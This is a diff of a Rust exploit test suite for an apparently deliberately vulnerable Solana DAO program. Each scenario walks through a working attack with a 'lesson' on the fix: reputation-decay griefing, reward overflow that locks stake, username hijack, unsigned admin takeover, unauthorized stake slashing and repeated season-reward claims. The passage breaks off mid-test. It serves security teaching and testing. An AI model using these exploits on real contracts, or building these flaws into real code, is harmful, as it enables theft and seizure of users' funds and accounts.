+// and grind a victim's reputation to zero in a single block
+struct RepeatedReputationDecay;
+
+impl ExploitScenario for RepeatedReputationDecay {
+    type State = DecayState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V010",
+            title: "Repeated Reputation Decay",
+            severity: Severity::Medium,
+            lesson: "Only apply decay once a full epoch has elapsed since the last decay",
+        }
+    }
+
+    fn setup(&self) -> DecayState {
+        let mut dao = setup_dao_scenario_with(|admin, config, mint| {
+            init_dao_instruction(admin, admin, config, 10, mint, 10)
+        });
+        let supporter = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let victim = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Victim: {}", victim.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let (_, supporter_profile) = dao.create_profile(&supporter, "supporter");
+        let (victim_registry, victim_profile) = dao.create_profile(&victim, "victim");
+
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&supporter.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&supporter.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&supporter.pubkey(), "victim");
+
+        let upvote_ix = upvote_instruction(
+            &supporter.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &supporter_profile,
+            &victim_registry,
+            &victim_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "victim",
+        );
+        dao.send(upvote_ix, &supporter).unwrap();
+
+        let starting_reputation = get_reputation(&dao.svm, &victim_profile);
+        assert_eq!(starting_reputation, 10);
+        println!("[Step 1] Victim earned {} reputation from an upvote", starting_reputation);
+
+        DecayState { dao, victim_profile, attacker, starting_reputation, calls: 0 }
+    }
+
+    fn exploit(&self, state: &mut DecayState) -> TransactionResult {
+        // EXPLOIT: Crank decay over and over without waiting for an epoch
+        // In secure version the second call fails with DecayNotDue (and the first
+        // one too, since no full epoch has passed since profile creation)
+        // In vulnerable version every call removes another 10%
+        println!("\n[EXPLOIT] Attacker calls decay_reputation repeatedly in the same epoch");
+        let dao = &mut state.dao;
+        let decay_ix = decay_reputation_instruction(
+            &state.attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.victim_profile,
+        );
+
+        loop {
+            dao.svm.expire_blockhash();
+            let result = dao.send(decay_ix.clone(), &state.attacker);
+            state.calls += 1;
+
+            if result.is_err() || get_reputation(&dao.svm, &state.victim_profile) == 0 {
+                return result;
+            }
+            assert!(state.calls < 20, "Decay should reach zero within 20 calls");
+        }
+    }
+
+    fn assert_impact(&self, state: &mut DecayState) -> u64 {
+        let final_reputation = get_reputation(&state.dao.svm, &state.victim_profile);
+        assert_eq!(final_reputation, 0, "Victim reputation ground to zero");
+
+        println!(
+            "[EXPLOIT] SUCCESS: Reputation {} -> {} after {} calls",
+            state.starting_reputation, final_reputation, state.calls
+        );
+        println!("[VULNERABILITY] Decay meant to take months was applied in one block");
+
+        0
+    }
 }
 
-// Test 2: Demonstrate self-voting vulnerability
-// Users can vote for themselves to inflate reputation
 #[test]
-fn test_exploit_self_voting() {
-    println!("\n=== EXPLOIT TEST: Self-Voting Allowed ===\n");
+fn test_exploit_repeated_reputation_decay() {
+    run_exploit(&RepeatedReputationDecay);
+}
+
+// Test 11: Demonstrate reward multiplication overflow
+// stake * rate * elapsed is computed in u64, so a large staker's reward
+// settlement overflows and every instruction that settles rewards aborts
+#[test]
+fn test_exploit_reward_overflow_locks_stake() {
+    println!("\n=== EXPLOIT TEST: Reward Multiplication Overflow ===\n");
 
     let mut svm = setup_svm();
     let admin = create_funded_account(&mut svm, 10_000_000_000);
-    let attacker = create_funded_account(&mut svm, 10_000_000_000);
+    let whale = create_funded_account(&mut svm, 10_000_000_000);
 
-    println!("[Setup] Attacker: {}", attacker.pubkey());
+    println!("[Setup] Whale: {}", whale.pubkey());
 
     let mint = CreateMint::new(&mut svm, &admin)
         .decimals(DECIMALS)
         .send()
         .unwrap();
 
-    let attacker_token_account = CreateAssociatedTokenAccount::new(&mut svm, &admin, &mint)
-        .owner(&attacker.pubkey())
+    let whale_token_account = CreateAssociatedTokenAccount::new(&mut svm, &admin, &mint)
+        .owner(&whale.pubkey())
         .send()
         .unwrap();
 
-    MintTo::new(&mut svm, &admin, &mint, &attacker_token_account, 1_000_000)
-        
+    MintTo::new(&mut svm, &admin, &mint, &whale_token_account, 100_000_000_000)
         .send()
         .unwrap();
 
@@ -191,103 +1037,331 @@ fn test_exploit_self_voting() {
     );
     svm.send_transaction(tx).unwrap();
 
-    let (attacker_registry, _) = derive_user_registry_pda("hacker");
-    let (attacker_profile, _) = derive_user_profile_pda(&attacker.pubkey());
+    MintTo::new(&mut svm, &admin, &mint, &treasury_token_account, 100_000_000_000)
+        .send()
+        .unwrap();
+
+    let (whale_registry, _) = derive_user_registry_pda("whale");
+    let (whale_profile, _) = derive_user_profile_pda(&whale.pubkey());
 
-    let create_profile_ix = create_profile_instruction(
-        &attacker.pubkey(),
-        &attacker_registry,
-        &attacker_profile,
-        "hacker",
-    );
+    let create_profile_ix =
+        create_profile_instruction(&whale.pubkey(), &whale_registry, &whale_profile, "whale");
 
     let tx = Transaction::new_signed_with_payer(
         &[create_profile_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
+        Some(&whale.pubkey()),
+        &[&whale],
         svm.latest_blockhash(),
     );
     svm.send_transaction(tx).unwrap();
 
     let stake_ix = stake_tokens_instruction(
-        &attacker.pubkey(),
+        &whale.pubkey(),
         &admin.pubkey(),
         &config_pda,
         &treasury_pda,
-        &attacker_profile,
+        &whale_profile,
         &mint,
-        &attacker_token_account,
+        &whale_token_account,
         &treasury_token_account,
-        100,
+        100_000_000_000,
     );
 
     let tx = Transaction::new_signed_with_payer(
         &[stake_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
+        Some(&whale.pubkey()),
+        &[&whale],
         svm.latest_blockhash(),
     );
     svm.send_transaction(tx).unwrap();
-    println!("[Step 1] Attacker staked tokens and created profile");
+    println!("[Step 1] Whale staked 100,000 tokens, reward reserve funded");
+
+    advance_time(&mut svm, 7 * 24 * 3600);
+    svm.expire_blockhash();
+    println!("[Step 2] One week passes");
+
+    // EXPLOIT: Reward settlement overflows
+    // 100_000_000_000 * 1_000 * 604_800 = 6.048e19 > u64::MAX (1.8e19)
+    // In secure version the product is computed in u128 and the claim succeeds
+    // In vulnerable version the multiplication overflows and the claim aborts
+    println!("\n[EXPLOIT] Whale tries to claim one week of rewards");
+    let claim_ix = claim_rewards_instruction(
+        &whale.pubkey(),
+        &admin.pubkey(),
+        &config_pda,
+        &treasury_pda,
+        &treasury_authority,
+        &whale_profile,
+        &mint,
+        &whale_token_account,
+        &treasury_token_account,
+    );
 
-    // EXPLOIT: Vote for yourself
-    // In secure version this would fail with CannotVoteForSelf error
-    // In vulnerable version this succeeds, allowing reputation inflation
-    println!("\n[EXPLOIT] Attacker votes for themselves");
-    let (vote_cooldown, _) = derive_vote_cooldown_pda(&attacker.pubkey());
-    let (vote_record, _) = derive_vote_record_pda(&attacker.pubkey(), "hacker");
+    let tx = Transaction::new_signed_with_payer(
+        &[claim_ix],
+        Some(&whale.pubkey()),
+        &[&whale],
+        svm.latest_blockhash(),
+    );
+    let result = svm.send_transaction(tx);
+    assert!(result.is_err(), "VULNERABILITY: Reward calculation overflowed");
 
-    let upvote_ix = upvote_instruction(
-        &attacker.pubkey(),
+    println!("[EXPLOIT] Whale tries to unstake instead");
+    let (unbonding_ticket, _) = derive_unbonding_ticket_pda(&whale.pubkey());
+    let unstake_ix = unstake_tokens_instruction(
+        &whale.pubkey(),
         &admin.pubkey(),
         &config_pda,
-        &attacker_profile,
-        &attacker_registry,
-        &attacker_profile,
-        &vote_cooldown,
-        &vote_record,
-        "hacker",
+        &treasury_pda,
+        &whale_profile,
+        &unbonding_ticket,
+        100_000_000_000,
     );
 
     let tx = Transaction::new_signed_with_payer(
-        &[upvote_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
+        &[unstake_ix],
+        Some(&whale.pubkey()),
+        &[&whale],
         svm.latest_blockhash(),
     );
-
-    // This should fail but succeeds due to missing self-vote check
     let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: User voted for themselves and succeeded");
-    println!("[EXPLOIT] SUCCESS: Self-vote allowed!");
-    println!("[VULNERABILITY] Attacker can inflate their own reputation indefinitely");
+    assert!(result.is_err(), "VULNERABILITY: Unstake settles rewards and overflows too");
+
+    println!("[EXPLOIT] SUCCESS: Claim and unstake both abort on overflow");
+    println!("[VULNERABILITY] The longer the whale waits, the larger the product - stake is locked for good");
     println!("\n=== EXPLOIT DEMONSTRATED ===\n");
 }
 
-// Test 3: Demonstrate no cooldown enforcement vulnerability
-// Users can spam votes without waiting for cooldown
+
+// Test 12: Demonstrate username hijack through change_username
+// The registry being freed is never tied to the caller's profile, so an
+// attacker can close the victim's registry and then claim the name
+struct UsernameHijack;
+
+impl ExploitScenario for UsernameHijack {
+    type State = UsersState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V012",
+            title: "Username Hijack via change_username",
+            severity: Severity::High,
+            lesson: "Derive the registry being released from the caller's own username and check its owner",
+        }
+    }
+
+    fn setup(&self) -> UsersState {
+        let mut svm = setup_svm();
+        let victim = create_funded_account(&mut svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut svm, 10_000_000_000);
+
+        println!("[Setup] Victim: {}", victim.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        for (user, username) in [(&victim, "victim"), (&attacker, "attacker")] {
+            let (registry, _) = derive_user_registry_pda(username);
+            let (profile, _) = derive_user_profile_pda(&user.pubkey());
+
+            let create_profile_ix =
+                create_profile_instruction(&user.pubkey(), &registry, &profile, username);
+
+            let tx = Transaction::new_signed_with_payer(
+                &[create_profile_ix],
+                Some(&user.pubkey()),
+                &[user],
+                svm.latest_blockhash(),
+            );
+            svm.send_transaction(tx).unwrap();
+        }
+
+        let (victim_registry, _) = derive_user_registry_pda("victim");
+        assert_eq!(get_registry_owner(&svm, &victim_registry), victim.pubkey());
+        println!("[Step 1] Victim owns the 'victim' username");
+
+        UsersState { svm, first: victim, second: attacker }
+    }
+
+    fn exploit(&self, state: &mut UsersState) -> TransactionResult {
+        let svm = &mut state.svm;
+        let attacker = &state.second;
+        let (victim_registry, _) = derive_user_registry_pda("victim");
+        let (attacker_profile, _) = derive_user_profile_pda(&attacker.pubkey());
+
+        // EXPLOIT: Pass the victim's registry as the one being freed
+        // In secure version the registry is derived from the caller's username
+        // and owner-checked, so this fails
+        println!("\n[EXPLOIT] Attacker renames to 'attacker2' while freeing the victim's registry");
+        let (temp_registry, _) = derive_user_registry_pda("attacker2");
+        let change_ix = change_username_instruction(
+            &attacker.pubkey(),
+            &attacker_profile,
+            &victim_registry,
+            &temp_registry,
+            "attacker2",
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[change_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            svm.latest_blockhash(),
+        );
+        let result = svm.send_transaction(tx);
+        assert!(result.is_ok(), "VULNERABILITY: Foreign registry freed");
+        assert!(
+            svm.get_account(&victim_registry).map_or(true, |a| a.lamports == 0),
+            "Victim registry should be closed"
+        );
+        println!("[Step 2] Victim's registry closed, rent sent to attacker");
+
+        println!("\n[EXPLOIT] Attacker claims the released 'victim' username");
+        let change_ix = change_username_instruction(
+            &attacker.pubkey(),
+            &attacker_profile,
+            &temp_registry,
+            &victim_registry,
+            "victim",
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[change_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            svm.latest_blockhash(),
+        );
+
+        svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut UsersState) -> u64 {
+        let (victim_registry, _) = derive_user_registry_pda("victim");
+        assert_eq!(
+            get_registry_owner(&state.svm, &victim_registry),
+            state.second.pubkey(),
+            "Attacker now owns the victim's username"
+        );
+
+        println!("[EXPLOIT] SUCCESS: 'victim' registry now owned by {}", state.second.pubkey());
+        println!("[VULNERABILITY] Any user can free and take over another user's username");
+
+        0
+    }
+}
+
 #[test]
-fn test_exploit_no_cooldown_enforcement() {
+fn test_exploit_username_hijack() {
+    run_exploit(&UsernameHijack);
+}
+
+// DAO with a member profile that the attacker targets
+struct AdminTakeoverState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    victim: Keypair,
+    victim_profile: Pubkey,
+}
+
+// Test 13: Demonstrate admin takeover through set_admin
+// set_admin compares the passed-in key to config.admin but never requires
+// a signature, so anyone can name themselves admin
+struct AdminTakeover;
+
+impl ExploitScenario for AdminTakeover {
+    type State = AdminTakeoverState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V013",
+            title: "Admin Takeover via set_admin",
+            severity: Severity::Critical,
+            lesson: "Require the current admin's signature and a two-step accept for admin transfers",
+        }
+    }
+
+    fn setup(&self) -> AdminTakeoverState {
+        let mut dao = setup_dao_scenario_with(|admin, config, mint| {
+            init_dao_instruction(admin, admin, config, 10, mint, 10)
+        });
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let victim = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Admin: {}", dao.admin.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let (_, victim_profile) = dao.create_profile(&victim, "victim");
+
+        assert_eq!(get_config_admin(&dao.svm, &dao.config_pda), dao.admin.pubkey());
+        println!("[Step 1] DAO initialized, admin is {}", dao.admin.pubkey());
+
+        AdminTakeoverState { dao, attacker, victim, victim_profile }
+    }
+
+    fn exploit(&self, state: &mut AdminTakeoverState) -> TransactionResult {
+        let dao = &mut state.dao;
+
+        // EXPLOIT: Pass the admin pubkey without its signature
+        // In secure version there is no set_admin; propose_admin requires the
+        // current admin to sign and accept_admin requires the new admin to sign
+        println!("\n[EXPLOIT] Attacker calls set_admin naming themselves admin");
+        let set_admin_ix = set_admin_instruction(
+            &dao.admin.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.attacker.pubkey(),
+        );
+
+        let result = dao.send(set_admin_ix, &state.attacker);
+        assert!(result.is_ok(), "VULNERABILITY: Admin replaced without a signature");
+        assert_eq!(get_config_admin(&dao.svm, &dao.config_pda), state.attacker.pubkey());
+        println!("[Step 2] Config admin is now {}", state.attacker.pubkey());
+
+        println!("\n[EXPLOIT] Attacker uses admin rights on a member");
+        let (season_snapshot, _) = derive_season_snapshot_pda(&dao.config_pda, 0);
+        let reset_ix = reset_user_reputation_instruction(
+            &state.attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.victim_profile,
+            &season_snapshot,
+            &state.victim.pubkey(),
+        );
+
+        dao.send(reset_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AdminTakeoverState) -> u64 {
+        assert_eq!(get_config_admin(&state.dao.svm, &state.dao.config_pda), state.attacker.pubkey());
+
+        println!("[EXPLOIT] SUCCESS: Attacker controls admin-only instructions");
+        println!("[VULNERABILITY] Admin role taken without the admin's signature");
+
+        0
+    }
+}
+
+#[test]
+fn test_exploit_admin_takeover() {
+    run_exploit(&AdminTakeover);
+}
+
+// Test 14: Demonstrate vote history overflow locking a voter out
+// History entries are appended past the space allocated for them, so once
+// the account is full every further vote fails to serialize
+#[test]
+fn test_exploit_vote_history_overflow() {
+    println!("\n=== EXPLOIT TEST: Vote History Overflow ===\n");
+
     let mut svm = setup_svm();
     let admin = create_funded_account(&mut svm, 10_000_000_000);
     let voter = create_funded_account(&mut svm, 10_000_000_000);
-    let target = create_funded_account(&mut svm, 10_000_000_000);
+
+    println!("[Setup] Voter: {}", voter.pubkey());
 
     let mint = CreateMint::new(&mut svm, &admin)
         .decimals(DECIMALS)
         .send()
         .unwrap();
 
-    let voter_token_account = CreateAssociatedTokenAccount::new(&mut svm, &admin, &mint)
-        .owner(&voter.pubkey())
-        .send()
-        .unwrap();
-
-    MintTo::new(&mut svm, &admin, &mint, &voter_token_account, 1_000_000)
-        
-        .send()
-        .unwrap();
-
     let (config_pda, _) = derive_config_pda(&admin.pubkey());
     let init_dao_ix = init_dao_instruction(
         &admin.pubkey(),
@@ -295,7 +1369,7 @@ fn test_exploit_no_cooldown_enforcement() {
         &config_pda,
         10,
         &mint,
-        5,
+        10,
     );
 
     let tx = Transaction::new_signed_with_payer(
@@ -306,353 +1380,1250 @@ fn test_exploit_no_cooldown_enforcement() {
     );
     svm.send_transaction(tx).unwrap();
 
-    let (treasury_pda, _) = derive_treasury_pda(&admin.pubkey());
-    let (treasury_authority, _) = derive_treasury_authority_pda(&config_pda, &admin.pubkey());
-    let treasury_token_account = get_associated_token_address(&treasury_authority, &mint);
-
-    let init_treasury_ix = initialize_treasury_instruction(
-        &admin.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &treasury_authority,
-        &treasury_token_account,
-        &mint,
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[init_treasury_ix],
-        Some(&admin.pubkey()),
-        &[&admin],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-
     let (voter_registry, _) = derive_user_registry_pda("voter");
     let (voter_profile, _) = derive_user_profile_pda(&voter.pubkey());
-
-    let create_voter_profile_ix =
+    let create_profile_ix =
         create_profile_instruction(&voter.pubkey(), &voter_registry, &voter_profile, "voter");
 
     let tx = Transaction::new_signed_with_payer(
-        &[create_voter_profile_ix],
+        &[create_profile_ix],
         Some(&voter.pubkey()),
         &[&voter],
         svm.latest_blockhash(),
     );
     svm.send_transaction(tx).unwrap();
 
-    let (target_registry, _) = derive_user_registry_pda("target");
-    let (target_profile, _) = derive_user_profile_pda(&target.pubkey());
-
-    let create_target_profile_ix =
-        create_profile_instruction(&target.pubkey(), &target_registry, &target_profile, "target");
+    let mut targets = Vec::new();
+    for i in 0..5 {
+        let target = create_funded_account(&mut svm, 10_000_000_000);
+        let username = format!("target{}", i);
+        let (registry, _) = derive_user_registry_pda(&username);
+        let (profile, _) = derive_user_profile_pda(&target.pubkey());
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_target_profile_ix],
-        Some(&target.pubkey()),
-        &[&target],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+        let create_profile_ix =
+            create_profile_instruction(&target.pubkey(), &registry, &profile, &username);
 
-    let stake_ix = stake_tokens_instruction(
-        &voter.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &voter_profile,
-        &mint,
-        &voter_token_account,
-        &treasury_token_account,
-        100,
-    );
+        let tx = Transaction::new_signed_with_payer(
+            &[create_profile_ix],
+            Some(&target.pubkey()),
+            &[&target],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
 
-    let tx = Transaction::new_signed_with_payer(
-        &[stake_ix],
-        Some(&voter.pubkey()),
-        &[&voter],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+        targets.push((username, registry, profile));
+    }
+    println!("[Step 1] Voter and 5 target profiles created");
 
     let (vote_cooldown, _) = derive_vote_cooldown_pda(&voter.pubkey());
-    let (vote_record, _) = derive_vote_record_pda(&voter.pubkey(), "target");
-
-    let upvote_ix = upvote_instruction(
-        &voter.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &voter_profile,
-        &target_registry,
-        &target_profile,
-        &vote_cooldown,
-        &vote_record,
-        "target",
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[upvote_ix],
-        Some(&voter.pubkey()),
-        &[&voter],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-
-    // EXPLOIT: Try to vote again immediately (should fail due to 24h cooldown for Members)
-    // But vulnerable version has no cooldown check, so user can vote on different users
-    let (target2_registry, _) = derive_user_registry_pda("target2");
-    let target2 = create_funded_account(&mut svm, 10_000_000_000);
-    let (target2_profile, _) = derive_user_profile_pda(&target2.pubkey());
-
-    let create_target2_profile_ix = create_profile_instruction(
-        &target2.pubkey(),
-        &target2_registry,
-        &target2_profile,
-        "target2",
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[create_target2_profile_ix],
-        Some(&target2.pubkey()),
-        &[&target2],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-
-    let (vote_record2, _) = derive_vote_record_pda(&voter.pubkey(), "target2");
-
-    let upvote_ix2 = upvote_instruction(
-        &voter.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &voter_profile,
-        &target2_registry,
-        &target2_profile,
-        &vote_cooldown,
-        &vote_record2,
-        "target2",
-    );
+    let (vote_history, _) = derive_vote_history_pda(&voter.pubkey());
+
+    // EXPLOIT: Keep voting until the history account runs out of space
+    // In secure version the account is grown by realloc and then wraps as a
+    // ring buffer, so voting never fails on history size
+    println!("\n[EXPLOIT] Voter casts one vote per target");
+    let mut results = Vec::new();
+    for (username, registry, profile) in &targets {
+        let (vote_record, _) = derive_vote_record_pda(&voter.pubkey(), username);
+        let upvote_ix = upvote_instruction(
+            &voter.pubkey(),
+            &admin.pubkey(),
+            &config_pda,
+            &voter_profile,
+            registry,
+            profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            username,
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[upvote_ix],
+            Some(&voter.pubkey()),
+            &[&voter],
+            svm.latest_blockhash(),
+        );
+        results.push(svm.send_transaction(tx).is_ok());
+    }
+
+    assert!(results[..4].iter().all(|ok| *ok), "First 4 votes fit in the history");
+    assert!(!results[4], "VULNERABILITY: 5th vote fails once history is full");
+
+    println!("[EXPLOIT] SUCCESS: Votes accepted {:?}", results);
+    println!("[VULNERABILITY] Voter permanently locked out after 4 votes");
+    println!("\n=== EXPLOIT DEMONSTRATED ===\n");
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[upvote_ix2],
-        Some(&voter.pubkey()),
-        &[&voter],
-        svm.latest_blockhash(),
-    );
 
-    // In secure version this would fail with VoteCooldownActive error
-    // In vulnerable version this succeeds immediately
-    let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: User voted twice without cooldown");
+// Test 15: Demonstrate unauthorized slashing
+// slash_stake never checks the signer against config.admin, so anyone can
+// burn another user's entire stake
+struct UnauthorizedSlash;
+
+impl ExploitScenario for UnauthorizedSlash {
+    type State = StakerState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V015",
+            title: "Unauthorized Slash",
+            severity: Severity::Critical,
+            lesson: "Check the signer against config.admin before slashing any stake",
+        }
+    }
+
+    fn setup(&self) -> StakerState {
+        let mut dao = setup_dao_scenario(10);
+        let victim = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Victim: {}", victim.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let victim_token_account = dao.fund_tokens(&victim.pubkey(), 100_000_000);
+        let (_, victim_profile) = dao.create_profile(&victim, "victim");
+        dao.stake(&victim, &victim_profile, &victim_token_account, 100_000_000).unwrap();
+
+        assert_eq!(get_stake_amount(&dao.svm, &victim_profile), 100_000_000);
+        println!("[Step 1] Victim staked 100 tokens");
+
+        // The victim's stake is the target; the attacker signs the slash
+        StakerState {
+            dao,
+            user: attacker,
+            profile: victim_profile,
+            token_account: victim_token_account,
+        }
+    }
+
+    fn exploit(&self, state: &mut StakerState) -> TransactionResult {
+        // EXPLOIT: Attacker slashes and burns the victim's whole stake
+        // In secure version this fails with UnauthorizedAdmin
+        println!("\n[EXPLOIT] Attacker calls slash_stake on the victim (100%, burn)");
+        let dao = &mut state.dao;
+        let slash_ix = slash_stake_instruction(
+            &state.user.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &dao.treasury_authority,
+            &state.profile,
+            &dao.mint,
+            &dao.treasury_token_account,
+            10_000,
+            true,
+        );
+
+        dao.send(slash_ix, &state.user)
+    }
+
+    fn assert_impact(&self, state: &mut StakerState) -> u64 {
+        let remaining_stake = get_stake_amount(&state.dao.svm, &state.profile);
+        let treasury_balance = state.dao.token_balance(&state.dao.treasury_token_account);
+        assert_eq!(remaining_stake, 0, "Victim stake wiped out");
+        assert_eq!(treasury_balance, 0, "Victim tokens burned");
+
+        println!("[EXPLOIT] SUCCESS: Victim stake 100 -> 0 tokens, treasury balance {}", treasury_balance);
+        println!("[VULNERABILITY] Any user can burn any other user's stake");
+
+        100_000_000
+    }
 }
 
-// Test 4: Demonstrate single-character username vulnerability
 #[test]
-fn test_exploit_single_char_username() {
-    let mut svm = setup_svm();
-    let user = create_funded_account(&mut svm, 10_000_000_000);
-
-    let (user_registry, _) = derive_user_registry_pda("a");
-    let (user_profile, _) = derive_user_profile_pda(&user.pubkey());
+fn test_exploit_unauthorized_slash() {
+    run_exploit(&UnauthorizedSlash);
+}
 
-    // EXPLOIT: Create profile with single-character username
-    // In secure version this would fail with InvalidUsername error (MIN = 3)
-    // In vulnerable version this succeeds (MIN = 1)
-    let create_profile_ix =
-        create_profile_instruction(&user.pubkey(), &user_registry, &user_profile, "a");
+// Closed season where the attacker holds a ranked standings entry
+struct SeasonState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    attacker_token_account: Pubkey,
+    season_snapshot: Pubkey,
+    reward_pool: u64,
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_profile_ix],
-        Some(&user.pubkey()),
-        &[&user],
-        svm.latest_blockhash(),
-    );
+// Test 16: Demonstrate season reward double claim
+// claim_season_reward never checks the entry's claimed flag, so a ranked
+// user can claim the same share repeatedly and drain staked principal
+struct SeasonRewardDoubleClaim;
+
+impl SeasonRewardDoubleClaim {
+    fn send_claim(state: &mut SeasonState) -> TransactionResult {
+        let dao = &mut state.dao;
+        let claim_ix = claim_season_reward_instruction(
+            &state.attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &dao.treasury_authority,
+            &state.season_snapshot,
+            &dao.mint,
+            &state.attacker_token_account,
+            &dao.treasury_token_account,
+            0,
+        );
+
+        dao.svm.expire_blockhash();
+        dao.send(claim_ix, &state.attacker)
+    }
+}
 
-    let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: Single-character username accepted");
+impl ExploitScenario for SeasonRewardDoubleClaim {
+    type State = SeasonState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V016",
+            title: "Season Reward Double Claim",
+            severity: Severity::Critical,
+            lesson: "Mark standings entries as claimed and reject any claim on a claimed entry",
+        }
+    }
+
+    fn setup(&self) -> SeasonState {
+        let mut dao = setup_dao_scenario(10);
+        let staker = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Staker: {}", staker.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let staker_token_account = dao.fund_tokens(&staker.pubkey(), 100_000_000);
+        let attacker_token_account = CreateAssociatedTokenAccount::new(&mut dao.svm, &dao.admin, &dao.mint)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+
+        let (_, staker_profile) = dao.create_profile(&staker, "staker");
+        let (attacker_registry, attacker_profile) = dao.create_profile(&attacker, "attacker");
+
+        dao.stake(&staker, &staker_profile, &staker_token_account, 100_000_000).unwrap();
+        println!("[Step 1] Staker staked 100 tokens");
+
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&staker.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&staker.pubkey(), "attacker");
+        let (vote_history, _) = derive_vote_history_pda(&staker.pubkey());
+        let upvote_ix = upvote_instruction(
+            &staker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &staker_profile,
+            &attacker_registry,
+            &attacker_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "attacker",
+        );
+        dao.send(upvote_ix, &staker).unwrap();
+        assert!(get_reputation(&dao.svm, &attacker_profile) > 0);
+        println!("[Step 2] Attacker earned reputation this season");
+
+        let admin = dao.admin.insecure_clone();
+        let (season_snapshot, _) = derive_season_snapshot_pda(&dao.config_pda, 0);
+        let reset_ix = reset_user_reputation_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &attacker_profile,
+            &season_snapshot,
+            &attacker.pubkey(),
+        );
+
+        let reward_pool = 10_000_000;
+        MintTo::new(&mut dao.svm, &admin, &dao.mint, &dao.treasury_token_account, reward_pool)
+            .send()
+            .unwrap();
+
+        let close_ix = close_season_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &season_snapshot,
+            reward_pool,
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[reset_ix, close_ix],
+            Some(&admin.pubkey()),
+            &[&admin],
+            dao.svm.latest_blockhash(),
+        );
+        dao.svm.send_transaction(tx).unwrap();
+        println!("[Step 3] Season 0 closed with a 10 token reward pool");
+
+        SeasonState { dao, attacker, attacker_token_account, season_snapshot, reward_pool }
+    }
+
+    fn exploit(&self, state: &mut SeasonState) -> TransactionResult {
+        // EXPLOIT: Claim the same standings entry over and over
+        // In secure version the second claim fails with SeasonRewardClaimed
+        println!("\n[EXPLOIT] Attacker claims the season reward 5 times");
+        for _ in 0..4 {
+            let result = Self::send_claim(state);
+            assert!(result.is_ok(), "VULNERABILITY: Repeat season claim accepted");
+        }
+
